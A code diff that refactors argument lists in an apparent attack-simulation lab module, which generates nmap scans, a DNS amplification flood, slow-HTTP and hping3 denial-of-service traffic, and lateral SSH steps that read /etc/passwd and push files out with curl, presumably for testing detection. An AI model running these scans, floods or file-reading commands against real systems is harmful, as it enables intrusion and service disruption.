@@ -8,7 +8,7 @@ from collections.abc import Callable, Iterator
 from benchmarks.lab.habits import Occasion
 from benchmarks.lab.scenario import Attack
 from benchmarks.lab.services import PROGRAMS, tunnel_domain
-from benchmarks.lab.world import Step
+from benchmarks.lab.world import Step, words
 
 Plan = Callable[[Occasion, Attack, float], Iterator[Step]]  # the last one: seconds that it may last
 
@@ -23,7 +23,12 @@ def port_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
 
 def host_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     """A few ports of every address."""
-    yield o.step("host-scan", "nmap", "-sT", "-n", "-Pn", "-T4", "--max-retries", "1", "-p", "22,445,3389", o.world.scenario.network, limit=lasts)  # fmt: skip
+    yield o.step(
+        "host-scan",
+        *words("nmap -sT -n -Pn -T4 --max-retries 1 -p 22,445,3389"),
+        o.world.scenario.network,
+        limit=lasts,
+    )
 
 
 def slow_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
@@ -216,12 +221,18 @@ def syn_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     """Half-open, by a raw socket that says what the kernel would say of TTL and window."""
     servers = [h.address for h in o.world.hosts if h.inside and h.services and h.name != o.actor.host]
     targets = o.rng.sample(servers, k=min(2, len(servers)))
-    yield _as_root(o.step("syn-scan", "nmap", "-sS", "-n", "-Pn", "-T4", "--send-ip", "--ttl", "64", "--top-ports", str(int(100 * attack.pace)), *targets, limit=lasts))  # fmt: skip
+    argv = (
+        *words("nmap -sS -n -Pn -T4 --send-ip --ttl 64 --top-ports"),
+        str(int(100 * attack.pace)),
+        *targets,
+    )
+    yield _as_root(o.step("syn-scan", *argv, limit=lasts))
 
 
 def udp_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     servers = [h.address for h in o.world.hosts if h.inside and h.services and h.name != o.actor.host]
-    yield _as_root(o.step("udp-scan", "nmap", "-sU", "-n", "-Pn", "-T4", "--send-ip", "--ttl", "64", "--max-retries", "1", "--top-ports", str(int(40 * attack.pace)), o.rng.choice(servers), limit=lasts))  # fmt: skip
+    fixed = words("nmap -sU -n -Pn -T4 --send-ip --ttl 64 --max-retries 1 --top-ports")
+    yield _as_root(o.step("udp-scan", *fixed, str(int(40 * attack.pace)), o.rng.choice(servers), limit=lasts))
 
 
 def _as_root(step: Step) -> Step:
@@ -289,12 +300,14 @@ def amplification(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
         question.write_bytes(body)
     resolver = o.world.offering("resolver")[0].address
     ports = ("-s", str(o.rng.randrange(32_768, 55_000)))
-    yield from _flood(o, attack, lasts, resolver, "-2", "-p", "53", "-a", o.rng.choice(victims), "-d", str(len(body)), "-E", str(question), *ports)  # fmt: skip
+    argv = (*words("-2 -p 53 -a"), o.rng.choice(victims), "-d", str(len(body)), "-E", str(question), *ports)
+    yield from _flood(o, attack, lasts, resolver, *argv)
 
 
 def slow_http(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     if found := o.server("web"):
-        yield o.step("slow-http", "slowhttptest", "-H", "-c", str(int(60 * attack.pace)), "-r", "10", "-i", "5", "-l", str(int(lasts)), "-u", f"http://{found[0].address}/p0.html", limit=lasts + 5)  # fmt: skip
+        argv = (*words("slowhttptest -H -r 10 -i 5 -c"), str(int(60 * attack.pace)), "-l", str(int(lasts)))
+        yield o.step("slow-http", *argv, "-u", f"http://{found[0].address}/p0.html", limit=lasts + 5)
 
 
 def lateral_ssh(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
@@ -304,8 +317,11 @@ def lateral_ssh(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     while len(servers) > 1 and after < lasts:
         first, second = o.rng.sample(servers, k=2)
         order = o.rng.choice((
-            f"ssh {second} 'id; ls -la /home /etc; cat /etc/passwd'", f"scp -q /etc/services {second}:s", f"ssh {second} hostname; ncat -z -w 2 {second} 5432",
-            f"for p in 22 80 445 3306 5432; do ncat -z -w 1 {second} $p; done", f"curl -s -m 9 -T /etc/services http://{second}/x; ssh {second} uptime",
+            f"ssh {second} 'id; ls -la /home /etc; cat /etc/passwd'",
+            f"scp -q /etc/services {second}:s",
+            f"ssh {second} hostname; ncat -z -w 2 {second} 5432",
+            f"for p in 22 80 445 3306 5432; do ncat -z -w 1 {second} $p; done",
+            f"curl -s -m 9 -T /etc/services http://{second}/x; ssh {second} uptime",
         ))  # fmt: skip
         yield o.step("lateral-ssh", "ssh", f"{o.actor.name}@{first}", order, after=after, limit=40)
         after += o.rng.uniform(4.0, 15.0) / attack.pace
@@ -387,7 +403,9 @@ def junk_bytes(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
         host = o.rng.choice(servers)
         port = str(o.rng.choice((22, 25, 53, 80, 443, 445, 502, 1883, 5432)))
         if o.rng.random() < 0.2:
-            argv = ("hping3", "-q", "-n", "--ttl", "64", "-w", "64240", "-c", "3", "-s", str(o.rng.randrange(32_768, 60_000)), *o.rng.choice((("-F", "-P", "-U"), ("-S", "-F"), ("-A", "-R"))), "-p", port, host.address)  # fmt: skip
+            flags = words(o.rng.choice(("-F -P -U", "-S -F", "-A -R")))
+            ports = ("-s", str(o.rng.randrange(32_768, 60_000)), "-p", port)
+            argv = (*words("hping3 -q -n --ttl 64 -w 64240 -c 3"), *flags, *ports, host.address)
             yield _as_root(o.step("junk-bytes", *argv, after=after))
         else:
             junk = "".join(chr(o.rng.randrange(1, 256)) for _ in range(int(o.rng.lognormvariate(4, 1.5)) + 1))
